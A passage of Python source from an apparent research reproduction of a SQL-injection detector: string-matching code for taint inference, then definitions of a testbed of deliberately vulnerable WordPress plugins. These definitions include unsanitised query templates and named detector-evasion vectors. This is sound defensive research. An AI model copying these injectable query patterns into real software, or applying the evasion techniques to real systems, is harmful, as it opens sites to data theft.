            f"unknown matcher {matcher!r}; expected one of {MATCHER_CHOICES}"
        )
    return matcher


def best_substring_match(
    pattern: str,
    text: str,
    max_distance: int | None = None,
    *,
    matcher: str = "auto",
    profile: "TextProfile | Callable[[], TextProfile] | None" = None,
    prefilter: bool = False,
    bounds: bool = True,
    stats=None,
) -> SubstringMatch | None:
    """Find the best approximate occurrence of ``pattern`` within ``text``.

    Args:
        pattern: the application input value.
        text: the intercepted SQL query string.
        max_distance: optional pruning budget; when given, ``None`` is
            returned as soon as it can be proven that no substring of
            ``text`` is within ``max_distance`` edits of ``pattern``.
        matcher: matching core selector -- ``"auto"`` (default; bit-parallel
            except for tiny patterns), ``"dp"`` (Sellers DP oracle) or
            ``"bitparallel"`` (Myers).  All cores return identical results.
        profile: optional precomputed :class:`TextProfile` for ``text``
            (must satisfy ``profile.text == text``); avoids rebuilding the
            pruning tables when many patterns are matched against one text.
            May also be a zero-argument callable returning such a profile:
            it is invoked only if the bound heuristics are actually reached
            (an exact ``str.find`` hit never needs the tables), letting
            callers share a lazily-built profile across patterns without
            paying for it on exact-containment traffic.
        prefilter: when true (and a budget is given and ``matcher`` is not
            the DP oracle), run the q-gram pigeonhole prefilter
            (:mod:`repro.matching.filter`) *before* the char/bigram bound
            heuristics: a budget of zero is resolved by the exact-containment
            check alone, and otherwise the pattern's pieces are probed
            against the profile's lazily-built gram indexes to either prove
            no match within budget without scanning, or anchor the scan to
            windows around the exact piece hits.  Results are byte-identical
            either way; ``matcher="dp"`` is never filtered, keeping it a
            pure differential oracle.
        bounds: when false, skip the char/bigram bound heuristics (and,
            with ``prefilter`` also off, the profile-table materialisation
            they require).  For callers whose front end has already
            established that the bounds cannot fire -- e.g. the batched
            NTI path resolving a candidate whose pigeonhole windows
            covered half the query -- the ``O(query)`` table build is the
            single largest avoidable cost.  Never changes the result.
        stats: optional mutable counter object (see
            :class:`repro.nti.prefilter.FilterStats`) updated in place
            with prefilter effectiveness counters.

    Returns:
        The :class:`SubstringMatch` with minimal distance (ties broken by
        leftmost end, then longest match), or ``None`` when pruned out by
        ``max_distance``.  An empty pattern trivially matches with distance
        zero and zero length at offset 0.
    """
    n = len(pattern)
    m = len(text)
    if n == 0:
        return SubstringMatch(0, 0, 0)

    # Heuristic 1: exact containment short-circuits the matching core.
    idx = text.find(pattern)
    if idx >= 0:
        return SubstringMatch(0, idx, idx + n)

    if max_distance is not None:
        # Heuristic 2: a pattern much longer than the text cannot fit.
        if n - m > max_distance:
            return None
        if not (bounds or prefilter):
            tables = None
        elif profile is None:
            tables = TextProfile(text)
        elif callable(profile):
            tables = profile()
        else:
            tables = profile
        # The pigeonhole prefilter runs *before* the per-pattern bound
        # tables: its probe costs O(budget) index lookups versus the
        # bounds' O(n) dict building, and a prune or anchored hit makes
        # the bounds (and the core scan) unnecessary altogether.
        if prefilter and matcher != "dp" and m > 0:
            if max_distance <= 0:
                # find() already missed: a distance-0 match is impossible.
                return None
            if qgram_applicable(n, max_distance, MIN_PIECE):
                grams = tables.seed_index()
                result = qgram_filtered_match(
                    pattern,
                    text,
                    max_distance,
                    grams,
                    stats,
                    tables.bigram_index if grams is not None else None,
                )
                if result is None:
                    return None
                if result is not FULL_SCAN:
                    distance, start, end = result
                    return SubstringMatch(distance, start, end)
                if stats is not None:
                    stats.fallthrough_full_scan += 1
        if bounds:
            # Heuristic 3: character-frequency lower bound.
            if tables.char_bound(pattern) > max_distance:
                return None
            # Heuristic 4: q-gram lower bound (tighter, slightly costlier).
            if tables.bigram_bound(pattern) > max_distance:
                return None

    if m == 0:
        if max_distance is not None and n > max_distance:
            return None
        return SubstringMatch(n, 0, 0)

    core = resolve_matcher(matcher, n)
    if core == "bitparallel":
        return _bitparallel_best_match(pattern, text, max_distance)
    return _dp_best_match(pattern, text, max_distance)


# ----------------------------------------------------------------------
# Sellers DP core (differential-testing oracle)
# ----------------------------------------------------------------------


def _dp_best_match(
    pattern: str, text: str, max_distance: int | None
) -> SubstringMatch | None:
    """Sellers DP over columns of the text with parallel start tracking.

    ``dist[i]`` = best edit distance between ``pattern[:i]`` and some
    substring of ``text`` ending at the current column; ``starts[i]`` =
    start offset of that substring.
    """
    n = len(pattern)
    m = len(text)
    dist = list(range(n + 1))
    starts = [0] * (n + 1)
    best = SubstringMatch(dist[n], 0, 0)
    for j in range(1, m + 1):
        tj = text[j - 1]
        prev_diag_dist = dist[0]
        prev_diag_start = starts[0]
        # First row stays 0: a match may begin at any text offset for free.
        starts[0] = j
        for i in range(1, n + 1):
            cost = 0 if pattern[i - 1] == tj else 1
            sub_d = prev_diag_dist + cost          # substitute / match
            del_d = dist[i] + 1                    # skip a text character
            ins_d = dist[i - 1] + 1                # skip a pattern character
            prev_diag_dist = dist[i]
            if sub_d <= del_d and sub_d <= ins_d:
                new_d, new_s = sub_d, prev_diag_start
            elif del_d <= ins_d:
                new_d, new_s = del_d, starts[i]
            else:
                new_d, new_s = ins_d, starts[i - 1]
            prev_diag_start = starts[i]
            dist[i] = new_d
            starts[i] = new_s
        if dist[n] < best.distance or (
            dist[n] == best.distance and j - starts[n] > best.length
        ):
            best = SubstringMatch(dist[n], starts[n], j)
            if best.distance == 0:
                return best
    if max_distance is not None and best.distance > max_distance:
        return None
    return best


# ----------------------------------------------------------------------
# Bit-parallel core with bounded-window start recovery
# ----------------------------------------------------------------------


def _bitparallel_best_match(
    pattern: str, text: str, max_distance: int | None
) -> SubstringMatch | None:
    """Myers' scan for the distances, bit-parallel walk-back for the spans.

    The scan yields the exact last-row minimum ``d*`` and every end column
    achieving it.  The DP oracle's winning span is the earliest candidate
    column attaining the maximal match length, so each candidate's
    ``start`` is recovered -- tie-breaks included -- with
    :func:`repro.matching.bitparallel.recover_start`, a bounded-window
    re-scan plus argmin walk-back costing ``O((n + d*) * ceil(n / w))``
    word operations per candidate.

    Should the tie landscape degenerate (so many candidate columns that
    recovering them all would cost more than the plain DP), the core falls
    back to the oracle wholesale, bounding the worst case at DP cost.
    """
    n = len(pattern)
    m = len(text)
    peq = build_peq(pattern)
    scan = substring_scan(pattern, text, max_distance, peq=peq)
    if scan is None:
        return None
    d_star, candidates = scan
    # Mirror the DP's early return at the first zero-distance column.  (The
    # front-end's exact-containment check makes this unreachable there, but
    # the core keeps the oracle's semantics on its own.)
    if d_star == 0:
        candidates = candidates[:1]
    if d_star >= n:
        # Column 0 (empty substring at offset 0) ties d* = n; it is the
        # DP's initial best and only improved upon by a strictly longer
        # match of equal distance.
        best_start, best_end, best_len = 0, 0, 0
    else:
        best_start = best_end = -1
        best_len = -1
    window_span = n + d_star + 1
    max_len = n + d_star  # no optimal span can be longer
    # Each recovery costs about a window's worth of scan columns; the DP
    # costs m interpreter-level rows, worth roughly 32 scan columns each.
    # On a degenerate tie landscape a single oracle run is cheaper.
    if len(candidates) > 1 and len(candidates) * min(window_span, m) > 32 * m:
        return _dp_best_match(pattern, text, max_distance)
    for j in candidates:
        start_j = recover_start(pattern, text, j, d_star, peq=peq)
        length = j - start_j
        if length > best_len:
            best_len = length
            best_start, best_end = start_j, j
            if best_len >= max_len:
                break  # no later candidate can be strictly longer
    best = SubstringMatch(d_star, best_start, best_end)
    if max_distance is not None and best.distance > max_distance:
        return None
    return best


def substring_distance(pattern: str, text: str, *, matcher: str = "auto") -> int:
    """Minimum edit distance between ``pattern`` and any substring of ``text``."""
    match = best_substring_match(pattern, text, matcher=matcher)
    assert match is not None  # no budget given, so never pruned
    return match.distance
