"""Approximate substring matching for negative taint inference.

The NTI algorithm (paper Section III-A) needs, for each application input
``p`` and intercepted query ``q``, the *substring distance*: the minimum edit
distance between ``p`` and any substring of ``q``, together with the location
and length of the best-matching substring.  The naive formulation compares
every substring of ``q`` against ``p`` with Levenshtein, costing
``O(n^2 * m^2)``; the paper notes this is impractical and that optimized
dynamic programming plus heuristics to skip implausible comparisons are used
instead (Sections III-A and VI-B).

We implement Sellers' algorithm: the standard edit-distance DP in which the
first row is initialised to zero, so a match may *begin* at any position of
the text for free, and the minimum over the final row allows it to *end*
anywhere.  This yields the substring distance in ``O(n * m)`` time and
``O(n)`` memory.  Start positions are recovered with a parallel
start-tracking row, avoiding a quadratic traceback.

Heuristics applied before the DP (the "skip implausible comparisons" of the
paper):

- an input longer than the query plus the distance budget cannot match;
- an exact ``str.find`` hit short-circuits to distance zero;
- a character-frequency lower bound prunes inputs that share too few
  characters with the query to possibly fall under the budget.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["SubstringMatch", "best_substring_match", "substring_distance"]


@dataclass(frozen=True)
class SubstringMatch:
    """Best approximate occurrence of a pattern inside a text.

    Attributes:
        distance: minimum edit distance between the pattern and ``text[start:end]``.
        start: start offset of the matched substring in the text.
        end: end offset (exclusive) of the matched substring in the text.
    """

    distance: int
    start: int
    end: int

    @property
    def length(self) -> int:
        """Length of the matched query substring (denominator of the paper's ratio)."""
        return self.end - self.start


def _char_budget_bound(pattern: str, text: str) -> int:
    """Lower bound on the substring distance from character multiplicities.

    Every pattern character missing from the text (counting multiplicity)
    requires at least one edit.  Cheap ``O(n + m)`` pruning pass.
    """
    counts: dict[str, int] = {}
    for ch in text:
        counts[ch] = counts.get(ch, 0) + 1
    missing = 0
    for ch in pattern:
        remaining = counts.get(ch, 0)
        if remaining:
            counts[ch] = remaining - 1
        else:
            missing += 1
    return missing


def _bigram_bound(pattern: str, text: str) -> int:
    """q-gram lower bound (q=2) on the substring distance.

    By the q-gram lemma, one edit destroys at most ``q`` of the pattern's
    q-grams, so ``distance >= missing_bigrams / 2`` where missing counts the
    multiset of pattern bigrams absent from the text.  The text's bigram set
    over-approximates every substring's, keeping the bound valid for
    substring matching.  This is the decisive pruning pass for NTI: a benign
    comment body shares almost no bigrams with an UPDATE statement, so the
    quadratic DP is skipped entirely.
    """
    if len(pattern) < 2:
        return 0
    counts: dict[str, int] = {}
    for i in range(len(text) - 1):
        gram = text[i : i + 2]
        counts[gram] = counts.get(gram, 0) + 1
    missing = 0
    for i in range(len(pattern) - 1):
        gram = pattern[i : i + 2]
        remaining = counts.get(gram, 0)
        if remaining:
            counts[gram] = remaining - 1
        else:
            missing += 1
    return missing // 2


def best_substring_match(
    pattern: str,
    text: str,
    max_distance: int | None = None,
) -> SubstringMatch | None:
    """Find the best approximate occurrence of ``pattern`` within ``text``.

    Args:
        pattern: the application input value.
        text: the intercepted SQL query string.
        max_distance: optional pruning budget; when given, ``None`` is
            returned as soon as it can be proven that no substring of
            ``text`` is within ``max_distance`` edits of ``pattern``.

    Returns:
        The :class:`SubstringMatch` with minimal distance (ties broken by
        leftmost end, then longest match), or ``None`` when pruned out by
        ``max_distance``.  An empty pattern trivially matches with distance
        zero and zero length at offset 0.
    """
    n = len(pattern)
    m = len(text)
    if n == 0:
        return SubstringMatch(0, 0, 0)

    # Heuristic 1: exact containment short-circuits the DP entirely.
    idx = text.find(pattern)
    if idx >= 0:
        return SubstringMatch(0, idx, idx + n)

    if max_distance is not None:
        # Heuristic 2: a pattern much longer than the text cannot fit.
        if n - m > max_distance:
            return None
        # Heuristic 3: character-frequency lower bound.
        if _char_budget_bound(pattern, text) > max_distance:
            return None
        # Heuristic 4: q-gram lower bound (tighter, slightly costlier).
        if _bigram_bound(pattern, text) > max_distance:
            return None

    if m == 0:
        if max_distance is not None and n > max_distance:
            return None
        return SubstringMatch(n, 0, 0)

    # Sellers DP over columns of the text.  dist[i] = best edit distance
    # between pattern[:i] and some substring of text ending at the current
    # column; start[i] = start offset of that substring.
    dist = list(range(n + 1))
    starts = [0] * (n + 1)
    best = SubstringMatch(dist[n], 0, 0)
    for j in range(1, m + 1):
        tj = text[j - 1]
        prev_diag_dist = dist[0]
        prev_diag_start = starts[0]
        # First row stays 0: a match may begin at any text offset for free.
        starts[0] = j
        for i in range(1, n + 1):
            cost = 0 if pattern[i - 1] == tj else 1
            sub_d = prev_diag_dist + cost          # substitute / match
            del_d = dist[i] + 1                    # skip a text character
            ins_d = dist[i - 1] + 1                # skip a pattern character
            prev_diag_dist = dist[i]
            if sub_d <= del_d and sub_d <= ins_d:
                new_d, new_s = sub_d, prev_diag_start
            elif del_d <= ins_d:
                new_d, new_s = del_d, starts[i]
            else:
                new_d, new_s = ins_d, starts[i - 1]
            prev_diag_start = starts[i]
            dist[i] = new_d
            starts[i] = new_s
        if dist[n] < best.distance or (
            dist[n] == best.distance and j - starts[n] > best.length
        ):
            best = SubstringMatch(dist[n], starts[n], j)
            if best.distance == 0:
                return best
    if max_distance is not None and best.distance > max_distance:
        return None
    return best


def substring_distance(pattern: str, text: str) -> int:
    """Minimum edit distance between ``pattern`` and any substring of ``text``."""
    match = best_substring_match(pattern, text)
    assert match is not None  # no budget given, so never pruned
    return match.distance
