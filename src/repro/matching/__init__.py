"""Approximate string matching substrate used by negative taint inference.

Public surface:

- :func:`repro.matching.levenshtein` and its explicit variants
  (:func:`levenshtein_full`, :func:`levenshtein_two_row`,
  :func:`levenshtein_banded`, :func:`levenshtein_bitparallel`).
- :func:`repro.matching.best_substring_match` /
  :func:`repro.matching.substring_distance` -- approximate substring
  search behind a ``matcher`` selector (``"auto"`` | ``"dp"`` |
  ``"bitparallel"``): Sellers' DP as the differential-testing oracle,
  Myers' bit-parallel scan as the production core.
- :class:`repro.matching.TextProfile` -- per-text pruning tables
  (character-frequency and bigram lower bounds) reusable across patterns.
- :func:`repro.matching.match_with_ratio` and
  :data:`repro.matching.DEFAULT_NTI_THRESHOLD` -- the paper's
  difference-ratio acceptance test.
- :mod:`repro.matching.filter` -- the multi-candidate filter kernel:
  q-gram pigeonhole prefilter with anchored verification
  (:func:`qgram_filtered_match`) and packed multi-lane small-pattern
  verification (:func:`packed_survivors`); :func:`edit_budget` is the
  shared threshold-to-distance-budget arithmetic.
"""

from .bitparallel import build_peq, levenshtein_bitparallel, substring_scan
from .filter import (
    QGRAM,
    PACKED_MAX_PATTERN,
    build_gram_index,
    edit_budget,
    packed_survivors,
    pigeonhole_pieces,
    qgram_applicable,
    qgram_filtered_match,
)
from .levenshtein import (
    PHP_LEVENSHTEIN_LIMIT,
    levenshtein,
    levenshtein_banded,
    levenshtein_full,
    levenshtein_two_row,
)
from .ratio import (
    DEFAULT_NTI_THRESHOLD,
    RatioMatch,
    difference_ratio,
    match_with_ratio,
)
from .substring import (
    MATCHER_CHOICES,
    SubstringMatch,
    TextProfile,
    best_substring_match,
    resolve_matcher,
    substring_distance,
)

__all__ = [
    "PHP_LEVENSHTEIN_LIMIT",
    "levenshtein",
    "levenshtein_banded",
    "levenshtein_bitparallel",
    "levenshtein_full",
    "levenshtein_two_row",
    "build_peq",
    "substring_scan",
    "QGRAM",
    "PACKED_MAX_PATTERN",
    "build_gram_index",
    "edit_budget",
    "packed_survivors",
    "pigeonhole_pieces",
    "qgram_applicable",
    "qgram_filtered_match",
    "DEFAULT_NTI_THRESHOLD",
    "RatioMatch",
    "difference_ratio",
    "match_with_ratio",
    "MATCHER_CHOICES",
    "SubstringMatch",
    "TextProfile",
    "best_substring_match",
    "resolve_matcher",
    "substring_distance",
]
