"""Approximate string matching substrate used by negative taint inference.

Public surface:

- :func:`repro.matching.levenshtein` and its explicit variants
  (:func:`levenshtein_full`, :func:`levenshtein_two_row`,
  :func:`levenshtein_banded`).
- :func:`repro.matching.best_substring_match` /
  :func:`repro.matching.substring_distance` -- Sellers-style approximate
  substring search.
- :func:`repro.matching.match_with_ratio` and
  :data:`repro.matching.DEFAULT_NTI_THRESHOLD` -- the paper's
  difference-ratio acceptance test.
"""

from .levenshtein import (
    PHP_LEVENSHTEIN_LIMIT,
    levenshtein,
    levenshtein_banded,
    levenshtein_full,
    levenshtein_two_row,
)
from .ratio import (
    DEFAULT_NTI_THRESHOLD,
    RatioMatch,
    difference_ratio,
    match_with_ratio,
)
from .substring import SubstringMatch, best_substring_match, substring_distance

__all__ = [
    "PHP_LEVENSHTEIN_LIMIT",
    "levenshtein",
    "levenshtein_banded",
    "levenshtein_full",
    "levenshtein_two_row",
    "DEFAULT_NTI_THRESHOLD",
    "RatioMatch",
    "difference_ratio",
    "match_with_ratio",
    "SubstringMatch",
    "best_substring_match",
    "substring_distance",
]
