"""Levenshtein edit-distance implementations.

The paper's NTI component relies on edit distance between application inputs
and SQL query strings (Section III-A).  PHP exposes a native ``levenshtein``
function that is limited to 255-character operands; for longer strings Joza
falls back to an optimized linear-memory implementation (Section VI-B).  This
module mirrors that structure:

- :func:`levenshtein_full` -- the textbook full-matrix dynamic program.
  Quadratic memory; retained as the reference implementation and for
  cross-checking the optimized variants in tests.
- :func:`levenshtein_two_row` -- the linear-memory two-row variant used by
  default (the "optimized Levenshtein function ... that requires linear
  memory and time" of Section VI-B).
- :func:`levenshtein_banded` -- a banded variant with an early-exit bound,
  used when the caller only needs to know whether the distance is below a
  cutoff (the common case for threshold tests).
- :func:`repro.matching.bitparallel.levenshtein_bitparallel` (re-exported
  here) -- Myers' bit-parallel scan, our stand-in for the paper's
  "optimized native C Levenshtein": ``O(ceil(n/w) * m)`` word operations
  instead of ``O(n * m)`` interpreter steps.
- :func:`levenshtein` -- the dispatching front-end modeled after Joza's
  native-for-short / optimized-for-long split.

All functions operate on ``str`` operands and return a non-negative ``int``.
"""

from __future__ import annotations

from .bitparallel import levenshtein_bitparallel

__all__ = [
    "PHP_LEVENSHTEIN_LIMIT",
    "levenshtein",
    "levenshtein_full",
    "levenshtein_two_row",
    "levenshtein_banded",
    "levenshtein_bitparallel",
]

#: PHP's built-in ``levenshtein`` refuses operands longer than 255 bytes.
#: Joza uses the native function below this limit and a linear-memory PHP
#: implementation above it; we keep the same switch point so benchmarks can
#: report the two regimes separately.
PHP_LEVENSHTEIN_LIMIT = 255


def levenshtein_full(a: str, b: str) -> int:
    """Classic full-matrix Levenshtein distance.

    ``O(len(a) * len(b))`` time *and* memory.  Used as the reference oracle
    in the property-based test-suite; prefer :func:`levenshtein` in
    production code.
    """
    n, m = len(a), len(b)
    if n == 0:
        return m
    if m == 0:
        return n
    # matrix[i][j] = distance between a[:i] and b[:j]
    matrix = [[0] * (m + 1) for _ in range(n + 1)]
    for i in range(n + 1):
        matrix[i][0] = i
    for j in range(m + 1):
        matrix[0][j] = j
    for i in range(1, n + 1):
        ai = a[i - 1]
        row = matrix[i]
        prev = matrix[i - 1]
        for j in range(1, m + 1):
            cost = 0 if ai == b[j - 1] else 1
            row[j] = min(prev[j] + 1, row[j - 1] + 1, prev[j - 1] + cost)
    return matrix[n][m]


def levenshtein_two_row(a: str, b: str) -> int:
    """Linear-memory Levenshtein distance (two rolling rows).

    This is the workhorse used for operands longer than PHP's native limit.
    ``O(len(a) * len(b))`` time, ``O(min(len(a), len(b)))`` memory.
    """
    # Iterate over the longer string in the outer loop so the rows stay small.
    if len(a) < len(b):
        a, b = b, a
    n, m = len(a), len(b)
    if m == 0:
        return n
    prev = list(range(m + 1))
    cur = [0] * (m + 1)
    for i in range(1, n + 1):
        ai = a[i - 1]
        cur[0] = i
        for j in range(1, m + 1):
            cost = 0 if ai == b[j - 1] else 1
            cur[j] = min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + cost)
        prev, cur = cur, prev
    return prev[m]


def levenshtein_banded(a: str, b: str, max_distance: int) -> int:
    """Levenshtein distance with an early-exit cutoff.

    Returns the exact distance when it is ``<= max_distance`` and
    ``max_distance + 1`` otherwise.  Only cells within ``max_distance`` of the
    diagonal are computed, giving ``O(max_distance * max(len))`` time, which
    makes threshold checks on long inputs cheap.
    """
    if max_distance < 0:
        raise ValueError("max_distance must be non-negative")
    if len(a) < len(b):
        a, b = b, a
    n, m = len(a), len(b)
    if n - m > max_distance:
        return max_distance + 1
    if m == 0:
        return n if n <= max_distance else max_distance + 1
    big = max_distance + 1
    prev = [j if j <= max_distance else big for j in range(m + 1)]
    cur = [big] * (m + 1)
    for i in range(1, n + 1):
        ai = a[i - 1]
        lo = max(1, i - max_distance)
        hi = min(m, i + max_distance)
        cur[lo - 1] = i if (lo == 1 and i <= max_distance) else big
        row_min = cur[lo - 1]
        for j in range(lo, hi + 1):
            cost = 0 if ai == b[j - 1] else 1
            best = prev[j - 1] + cost
            if prev[j] + 1 < best:
                best = prev[j] + 1
            if cur[j - 1] + 1 < best:
                best = cur[j - 1] + 1
            cur[j] = best if best <= max_distance else big
            if cur[j] < row_min:
                row_min = cur[j]
        if row_min > max_distance:
            return big
        prev, cur = cur, prev
        for j in range(lo - 1, hi + 2):
            if j <= m:
                cur[j] = big
    result = prev[m]
    return result if result <= max_distance else big


#: ``levenshtein()`` switches from the two-row DP to the bit-parallel scan
#: once the shorter operand reaches this many characters; below it the DP's
#: smaller constant wins over Myers' fixed per-column word-op budget.
BITPARALLEL_MIN_OPERAND = 8


def levenshtein(a: str, b: str, max_distance: int | None = None) -> int:
    """Edit distance between ``a`` and ``b``.

    Mirrors Joza's dispatch (Section VI-B): tiny operands use the two-row
    DP (standing in for PHP's native implementation, whose constant beats
    the bit-vector setup), everything else uses Myers' bit-parallel scan --
    our equivalent of the paper's "optimized native C Levenshtein" -- and
    when the caller supplies ``max_distance`` the scan's Ukkonen early-exit
    settles threshold tests without finishing the text.
    """
    if min(len(a), len(b)) < BITPARALLEL_MIN_OPERAND:
        if max_distance is not None:
            return levenshtein_banded(a, b, max_distance)
        return levenshtein_two_row(a, b)
    return levenshtein_bitparallel(a, b, max_distance)
