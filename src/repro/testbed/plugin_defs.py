"""Declarative definitions of the 50 vulnerable plugins of WP-SQLI-LAB.

Each :class:`PluginDef` describes one synthetic plugin modelled on a row of
the paper's Table IV: its vulnerable parameter and channel, the injection
context (numeric / quoted / LIKE / ORDER BY / IN-list / multi-parameter
concatenation), the per-parameter transform chain (which determines the NTI
evasion vector available to an attacker), the plugin's own PHP string
literals (which determine its PTI attack surface), and its backing table.

The attack-type census matches Table I exactly:
15 union-based, 17 standard blind, 14 double blind, 4 tautology.

``taintless_expected`` records the *designed* outcome of the Taintless PTI
evasion: 4 tautologies + 9 union-based = 13 of 50, matching Section V-A
("we successfully adapted 13 out of 50 exploits in the testbed to evade PTI
detection").  ``nti_vector`` names the application transformation an
attacker leverages to evade NTI -- every plugin has one, matching the
paper's complete NTI bypass of the mutated exploits.  AdRotate decodes its
input from Base64, reproducing the single NTI miss on *original* exploits
(Table II's 49/50).
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = [
    "AttackType",
    "PluginDef",
    "ALL_PLUGINS",
    "plugin_by_name",
]


class AttackType:
    """Exploit classes of Table I."""

    UNION = "union"
    BLIND = "blind"              # "Standard Blind" in the paper
    DOUBLE_BLIND = "double_blind"
    TAUTOLOGY = "tautology"

    ALL = (UNION, BLIND, DOUBLE_BLIND, TAUTOLOGY)


class NtiVector:
    """Application transformation an NTI evasion can leverage."""

    MAGIC_QUOTES = "magic_quotes"  # quote-stuffed comment blocks (Fig. 6C)
    URLDECODE = "urldecode"        # %27-stuffed comment blocks
    TRIM = "trim"                  # trailing-whitespace padding (auth routes)
    BASE64 = "base64"              # input is decoded; NTI blind even to originals
    SPLIT = "split"                # payload construction across parameters


@dataclass(frozen=True)
class PluginDef:
    """One synthetic vulnerable plugin.

    ``query_template`` contains ``{value}`` where the (transformed) input is
    spliced; the same template appears (with ``${param}``) in the generated
    PHP source so the plugin's own fragments cover its benign queries.
    ``columns`` excludes the implicit ``id INTEGER PRIMARY KEY
    AUTO_INCREMENT``; ``seed_rows`` align with ``columns``.
    """

    name: str
    title: str
    version: str
    advisory: str
    attack_type: str
    param: str
    query_template: str
    table: str
    columns: tuple[tuple[str, str], ...]
    seed_rows: tuple[tuple, ...]
    select_cols: int
    channel: str = "get"
    context: str = "numeric"  # numeric|quoted|like|order_by|in_list|multi
    render: str = "list"      # list|count|first
    transforms: tuple[str, ...] = ()
    source_extra: str = ""
    nti_vector: str = NtiVector.MAGIC_QUOTES
    taintless_expected: bool = False
    requires_auth: bool = False
    marker: str = ""
    leak_function: str = ""   # for FROM-free union leaks: user/version/database

    @property
    def route(self) -> str:
        return f"/plugin/{self.name}"

    @property
    def params(self) -> tuple[str, ...]:
        """Parameter names; multiple for the multi-concatenation context."""
        return tuple(p.strip() for p in self.param.split(","))


def _rows(*rows: tuple) -> tuple[tuple, ...]:
    return rows


# ----------------------------------------------------------------------
# Tautology-based plugins (4) -- all Taintless-evadable: their mutated
# payloads need only OR and = plus whitespace styles present in the
# WordPress core fragments (Table III).
# ----------------------------------------------------------------------

_TAUTOLOGY_PLUGINS = [
    PluginDef(
        name="atoz",
        title="A to Z Category Listing",
        version="1.3",
        advisory="OSVDB-86069",
        attack_type=AttackType.TAUTOLOGY,
        param="letter",
        channel="get",
        context="quoted",
        render="list",
        transforms=("stripslashes", "urldecode"),
        nti_vector=NtiVector.URLDECODE,
        taintless_expected=True,
        table="wp_atoz_categories",
        columns=(("letter", "text"), ("category_name", "text")),
        seed_rows=_rows(
            ("a", "Apples"), ("b", "Bees"), ("c", "Cats"),
            ("zz", "HIDDEN-atoz-unlisted-category"),
        ),
        select_cols=3,
        query_template=(
            "SELECT id, letter, category_name FROM wp_atoz_categories "
            "WHERE letter = '{value}' ORDER BY category_name"
        ),
        marker="HIDDEN-atoz",
    ),
    PluginDef(
        name="commevents",
        title="Community Events",
        version="1.2.1",
        advisory="OSVDB-74573",
        attack_type=AttackType.TAUTOLOGY,
        param="event_id",
        channel="get",
        context="numeric",
        render="list",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        table="wp_community_events",
        columns=(("title", "text"), ("event_date", "text")),
        seed_rows=_rows(
            ("Town picnic", "2015-07-01"),
            ("Board meeting", "2015-07-15"),
            ("HIDDEN-commevents-private-gala", "2015-08-01"),
        ),
        select_cols=3,
        query_template=(
            "SELECT id, title, event_date FROM wp_community_events "
            "WHERE id = {value}"
        ),
        marker="HIDDEN-commevents",
    ),
    PluginDef(
        name="easycontact",
        title="Easy Contact Form Lite",
        version="1.0.7",
        advisory="",
        attack_type=AttackType.TAUTOLOGY,
        param="form_id",
        channel="post",
        context="numeric",
        render="list",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        table="wp_easy_contact_forms",
        columns=(("label", "text"), ("recipient", "text")),
        seed_rows=_rows(
            ("Support", "support@example.test"),
            ("Sales", "sales@example.test"),
            ("Internal", "HIDDEN-easycontact-internal@example.test"),
        ),
        select_cols=3,
        query_template=(
            "SELECT id, label, recipient FROM wp_easy_contact_forms "
            "WHERE id = {value}"
        ),
        marker="HIDDEN-easycontact",
    ),
    PluginDef(
        name="wpecommerce",
        title="WP eCommerce",
        version="3.8.6",
        advisory="OSVDB-75590",
        attack_type=AttackType.TAUTOLOGY,
        param="coupon",
        channel="get",
        context="quoted",
        render="list",
        transforms=("stripslashes", "urldecode"),
        nti_vector=NtiVector.URLDECODE,
        taintless_expected=True,
        table="wp_wpsc_coupons",
        columns=(("code", "text"), ("discount", "integer")),
        seed_rows=_rows(
            ("SUMMER15", 15), ("WELCOME5", 5),
            ("HIDDEN-wpecommerce-STAFF100", 100),
        ),
        select_cols=3,
        query_template=(
            "SELECT id, code, discount FROM wp_wpsc_coupons "
            "WHERE code = '{value}'"
        ),
        marker="HIDDEN-wpecommerce",
    ),
]

# ----------------------------------------------------------------------
# Union-based plugins (15).
#
# The first nine are Taintless-evadable by design: their injection point
# sits at the end of the query (or before a union-compatible tail), and
# their own source supplies the lowercase function-name fragment that lets
# a FROM-free information leak (user()/version()/database()) be rebuilt
# entirely from application fragments.  The remaining six require FROM-based
# exfiltration or leave a hostile tail, which Taintless cannot cover.
# ----------------------------------------------------------------------

_UNION_PLUGINS = [
    PluginDef(
        name="allowphp",
        title="Allow PHP in posts and pages",
        version="2.0.0",
        advisory="OSVDB-75252",
        attack_type=AttackType.UNION,
        param="snippet_id",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="user",
        source_extra="$who = $_GET['user'];\n$label = 'user';",
        table="wp_allowphp_snippets",
        columns=(("title", "text"), ("body", "text")),
        seed_rows=_rows(("hello", "echo 1;"), ("footer", "echo 2;")),
        select_cols=3,
        query_template=(
            "SELECT id, title, body FROM wp_allowphp_snippets WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="contus",
        title="Contus HD FLV Player",
        version="1.3",
        advisory="",
        attack_type=AttackType.UNION,
        param="playerid",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="version",
        source_extra="$opt = get_option('contus_version');\n$v = 'version';",
        table="wp_contus_players",
        columns=(("name", "text"), ("video_url", "text")),
        seed_rows=_rows(("intro", "/v/intro.flv"), ("demo", "/v/demo.flv")),
        select_cols=3,
        query_template=(
            "SELECT id, name, video_url FROM wp_contus_players WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="countperday",
        title="Count per Day",
        version="2.17",
        advisory="OSVDB-75598",
        attack_type=AttackType.UNION,
        param="page",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="database",
        source_extra="$key = 'database';\n$tbl = $_GET['database'];",
        table="wp_cpd_counter",
        columns=(("page_id", "integer"), ("visits", "integer")),
        seed_rows=_rows((1, 120), (2, 45), (3, 9)),
        select_cols=3,
        query_template=(
            "SELECT id, page_id, visits FROM wp_cpd_counter WHERE page_id = {value}"
        ),
    ),
    PluginDef(
        name="crawlrate",
        title="Crawl Rate Tracker",
        version="2.0.2",
        advisory="",
        attack_type=AttackType.UNION,
        param="bot_id",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="user",
        source_extra="$agent = $_GET['user'];\n$ua = 'user';",
        table="wp_crawltracker_stats",
